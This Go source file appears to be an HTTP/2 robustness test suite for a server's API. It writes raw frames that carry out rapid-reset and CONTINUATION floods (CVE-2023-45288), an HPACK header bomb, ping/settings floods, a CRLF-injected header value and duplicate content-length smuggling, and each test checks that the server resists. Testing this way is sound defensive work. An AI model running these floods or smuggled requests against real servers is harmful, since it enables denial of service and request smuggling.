package main

import (
	"bufio"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"strings"
	"sync/atomic"
	"time"
)

// Frames of HTTP/2 (RFC 9113, section 6) and what is set in them.
const (
	frameData, frameHeaders, framePriority, frameReset, frameSettings, framePing, frameGoAway, frameWindow, frameContinuation = 0, 1, 2, 3, 4, 6, 7, 8, 9

	endStream, endHeaders = 1, 4
)

// session is a connection of HTTP/2 on which frames are written by hand.
type session struct {
	conn   *tls.Conn
	w      *bufio.Writer
	ok     atomic.Int64 // answers of status 200
	ended  chan error   // what reading ended with
	goAway atomic.Bool
}

// open connects and sends the preface, with settings.
func (t *target) open(settings ...uint32) (*session, error) {
	conn, err := t.dial("h2")
	if err != nil {
		return nil, err
	}
	s := &session{conn: conn, w: bufio.NewWriterSize(conn, 1<<16), ended: make(chan error, 1)}
	s.w.WriteString("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
	var payload []byte
	for i := 0; i+1 < len(settings); i += 2 {
		payload = binary.BigEndian.AppendUint16(payload, uint16(settings[i]))
		payload = binary.BigEndian.AppendUint32(payload, settings[i+1])
	}
	s.frame(frameSettings, 0, 0, payload)
	go s.read()
	return s, s.w.Flush()
}

func (s *session) frame(kind, flags byte, stream uint32, payload []byte) error {
	n := len(payload)
	head := append([]byte{byte(n >> 16), byte(n >> 8), byte(n), kind, flags}, 0, 0, 0, 0)
	binary.BigEndian.PutUint32(head[5:], stream)
	s.w.Write(head)
	_, err := s.w.Write(payload)
	return err
}

// read counts answers until the connection ends.
func (s *session) read() {
	r := bufio.NewReader(s.conn)
	for {
		var head [9]byte
		if _, err := io.ReadFull(r, head[:]); err != nil {
			s.ended <- err
			return
		}
		payload := make([]byte, int(head[0])<<16|int(head[1])<<8|int(head[2]))
		if _, err := io.ReadFull(r, payload); err != nil {
			s.ended <- err
			return
		}
		switch head[3] {
		case frameHeaders: // 0x88 is :status 200 of HPACK's table
			if len(payload) > 0 && payload[0] == 0x88 {
				s.ok.Add(1)
			}
		case frameGoAway:
			s.goAway.Store(true)
		}
	}
}

// close flushes and waits until the server ends the connection, or for a moment.
func (s *session) close(moment time.Duration) (byServer bool) {
	s.w.Flush()
	defer s.conn.Close()
	select {
	case <-s.ended:
		return true
	case <-time.After(moment):
		return s.goAway.Load()
	}
}

// fields encodes header fields without compression (RFC 7541, section 6.2.2).
func fields(pairs ...string) (b []byte) {
	text := func(s string) {
		if len(s) < 127 {
			b = append(b, byte(len(s)))
		} else {
			b = append(b, 127)
			b = binary.AppendUvarint(b, uint64(len(s)-127))
		}
		b = append(b, s...)
	}
	for i := 0; i+1 < len(pairs); i += 2 {
		b = append(b, 0)
		text(pairs[i])
		text(pairs[i+1])
	}
	return b
}

// request is the head of a request with the administrator's key.
func (t *target) request(method, path string, more ...string) []byte {
	return fields(append([]string{":method", method, ":scheme", "https", ":path", path, ":authority", "h", "x-chroma-token", t.admin, "content-type", "application/json"}, more...)...)
}

const identity = "/api/v2/auth/identity"

// frames are attacks that only HTTP/2 has.
func frames() []attack {
	out := malformed()
	for _, f := range []struct {
		name, expect string
		ends         bool
		do           func(*target, *session) error
	}{
		{"rapid reset", "the connection ends, or all of it is absorbed", false, rapidReset},
		{"more streams than allowed", "streams over the limit are refused", false, manyStreams},
		{"continuation flood", "the connection ends", true, continuations},
		{"table of headers of 4 GiB", "it is not made", false, func(t *target, s *session) error {
			s.frame(frameSettings, 0, 0, []byte{0, 1, 0xff, 0xff, 0xff, 0xff})
			return s.frame(frameHeaders, endHeaders|endStream, 1, t.request("GET", identity))
		}},
		{"references to one long header", "refused", false, headerBomb},
		{"settings flood", "the connection ends, or it is absorbed", false, repeated(frameSettings, 0, nil, 100_000)},
		{"ping flood", "the connection ends, or it is absorbed", false, repeated(framePing, 0, make([]byte, 8), 100_000)},
		{"priority flood", "the connection ends, or it is absorbed", false, repeated(framePriority, 1001, make([]byte, 5), 100_000)},
		{"empty data flood", "the connection ends, or it is absorbed", false, emptyData},
		{"window of 2^31", "the connection ends", true, repeated(frameWindow, 0, []byte{0x7f, 0xff, 0xff, 0xff}, 2)},
		{"frame of 16 MiB", "the connection ends", true, func(_ *target, s *session) error {
			return s.frame(frameData, 0, 1, make([]byte, 1<<24-1))
		}},
		{"data of a stream that is not there", "the connection ends", true, repeated(frameData, 7, []byte("x"), 1)},
		{"headers of stream 0", "the connection ends", true, repeated(frameHeaders, 0, nil, 1)},
		{"headers of an even stream", "the connection ends", true, func(t *target, s *session) error {
			return s.frame(frameHeaders, endHeaders|endStream, 2, t.request("GET", identity))
		}},
		{"continuation of nothing", "the connection ends", true, repeated(frameContinuation, 1, nil, 1)},
		{"compressed rubbish", "the connection ends", true, repeatedFlags(frameHeaders, endHeaders|endStream, 1, []byte(strings.Repeat("\xff", 100)))},
		{"frames of unknown kinds", "they are ignored", false, repeated(0xee, 0, make([]byte, 100), 10_000)},
		{"answers that nobody reads", "they do not pile up", false, unread},
	} {
		out = append(out, attack{"HTTP/2: " + f.name, f.expect, func(t *target) error {
			s, err := t.open()
			if err != nil {
				return err
			}
			// What is written after the server has ended the connection fails, which is an answer.
			_ = f.do(t, s)
			if ended := s.close(3*time.Second*time.Duration(map[bool]int{true: 3}[f.ends]) + 300*time.Millisecond); f.ends && !ended {
				return fmt.Errorf("the connection goes on")
			}
			return nil
		}})
	}
	return out
}

func repeated(kind byte, stream uint32, payload []byte, n int) func(*target, *session) error {
	return func(_ *target, s *session) error {
		for range n {
			if err := s.frame(kind, 0, stream, payload); err != nil {
				return err
			}
		}
		return nil
	}
}

func repeatedFlags(kind, flags byte, stream uint32, payload []byte) func(*target, *session) error {
	return func(_ *target, s *session) error { return s.frame(kind, flags, stream, payload) }
}

func rapidReset(t *target, s *session) error {
	n := 20_000
	if *long {
		n = 500_000
	}
	query := t.request("POST", t.large+"/get")
	for i := range n {
		stream := uint32(2*i + 1)
		if err := s.frame(frameHeaders, endHeaders, stream, query); err != nil {
			return err
		}
		if err := s.frame(frameReset, 0, stream, []byte{0, 0, 0, 8}); err != nil {
			return err
		}
	}
	return nil
}

func manyStreams(t *target, s *session) error {
	query := t.request("POST", t.docs+"/query")
	for i := range 10_000 {
		if err := s.frame(frameHeaders, endHeaders, uint32(2*i+1), query); err != nil {
			return err
		}
	}
	return nil
}

// continuations is a head that never ends (CVE-2023-45288).
func continuations(t *target, s *session) error {
	if err := s.frame(frameHeaders, 0, 1, t.request("GET", identity)); err != nil {
		return err
	}
	for i := range 20_000 {
		if err := s.frame(frameContinuation, 0, 1, fields(fmt.Sprint("x-", i), strings.Repeat("y", 1000))); err != nil {
			return err
		}
	}
	return nil
}

// headerBomb puts a header into the table once and names it ten thousand times.
func headerBomb(t *target, s *session) error {
	b := t.request("GET", identity)
	b = append(b, 0x40, 3, 'x', '-', 'x', 127)
	b = binary.AppendUvarint(b, 3000-127)
	b = append(b, strings.Repeat("y", 3000)...)
	b = append(b, strings.Repeat("\xbe", 10_000)...) // index 62: the newest of the table
	return s.frame(frameHeaders, endHeaders|endStream, 1, b)
}

func emptyData(t *target, s *session) error {
	if err := s.frame(frameHeaders, endHeaders, 1, t.request("POST", t.docs+"/get")); err != nil {
		return err
	}
	return repeated(frameData, 1, nil, 100_000)(t, s)
}

// unread asks for large answers on every stream and opens no window for them.
func unread(t *target, s *session) error {
	s.frame(frameSettings, 0, 0, []byte{0, 4, 0, 0, 0, 0})
	for i := range 200 {
		stream := uint32(2*i + 1)
		s.frame(frameHeaders, endHeaders, stream, t.request("POST", t.large+"/get"))
		if err := s.frame(frameData, endStream, stream, []byte("{}")); err != nil {
			return err
		}
	}
	s.w.Flush()
	time.Sleep(time.Second)
	return nil
}

// malformed are heads that no client sends (RFC 9113, section 8.1.1).
func malformed() (out []attack) {
	for name, head := range map[string][]string{
		"name in capitals":     {"X-Chroma", "a"},
		"connection header":    {"connection", "close"},
		"transfer encoding":    {"transfer-encoding", "chunked"},
		"line break in value":  {"x", "a\r\nx-chroma-token: b"},
		"NUL in value":         {"x", "a\x00b"},
		"pseudo-header late":   {":path", "/api/v2/heartbeat"},
		"unknown pseudo":       {":user", "ada"},
		"token twice":          {"x-chroma-token", "x"},
		"headers of 1,000 KiB": {"x", strings.Repeat("y", 15_000)},
	} {
		out = append(out, attack{"HTTP/2 head: " + name, "not 200", func(t *target) error {
			s, err := t.open()
			if err != nil {
				return err
			}
			if strings.Contains(name, "KiB") {
				s.frame(frameHeaders, 0, 1, t.request("GET", identity))
				for range 64 {
					s.frame(frameContinuation, 0, 1, fields(head...))
				}
				s.frame(frameContinuation, endHeaders, 1, nil)
			} else {
				s.frame(frameHeaders, endHeaders|endStream, 1, t.request("GET", identity, head...))
			}
			s.close(200 * time.Millisecond)
			if n := s.ok.Load(); n > 0 {
				return fmt.Errorf("answered with 200")
			}
			return nil
		}})
	}
	out = append(out, attack{"HTTP/2: more data than announced", "it is not taken", moreThanAnnounced})
	return append(out, attack{"HTTP/2 head: nothing wrong", "200", func(t *target) error {
		s, err := t.open()
		if err != nil {
			return err
		}
		s.frame(frameHeaders, endHeaders|endStream, 1, t.request("GET", identity))
		s.close(time.Second)
		if s.ok.Load() != 1 {
			return fmt.Errorf("no 200: the attacks of this kind show nothing")
		}
		return nil
	}})
}

// moreThanAnnounced sends a body that is longer than its content-length, of
// which there are two: where a server in front speaks HTTP/1.1 to the one
// behind it, the rest would be another request.
func moreThanAnnounced(t *target) error {
	s, err := t.open()
	if err != nil {
		return err
	}
	s.frame(frameHeaders, endHeaders, 1, t.request("POST", "/api/v2/tenants", "content-length", "0", "content-length", "2"))
	s.frame(frameData, endStream, 1, []byte(`{"name":"announced"}`))
	s.close(300 * time.Millisecond)
	if status, _, err := t.do(t.admin, "GET", "/api/v2/tenants/announced", ""); err != nil || status != 404 {
		return fmt.Errorf("the tenant: %d %w", status, err)
	}
	return nil
}
